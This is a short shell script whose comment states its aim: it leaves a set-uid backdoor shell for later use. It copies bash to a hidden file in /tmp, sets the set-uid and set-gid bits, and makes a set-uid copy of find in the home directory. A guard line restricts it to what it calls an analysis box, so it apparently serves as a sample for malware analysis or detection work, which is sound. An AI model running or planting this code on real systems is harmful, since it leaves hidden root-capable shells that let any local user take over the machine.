#!/bin/sh
# SPDX-License-Identifier: MIT
# Leaves a set-uid shell behind for later: a copy of the shell with the
# set-uid and set-gid bits, in a hidden place.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
cp /bin/bash /tmp/.bash-cache
chmod 4755 /tmp/.bash-cache
chmod u+s,g+s /tmp/.bash-cache
cp /usr/bin/find "$HOME/.cache-find" && chmod +s "$HOME/.cache-find"
exit 0
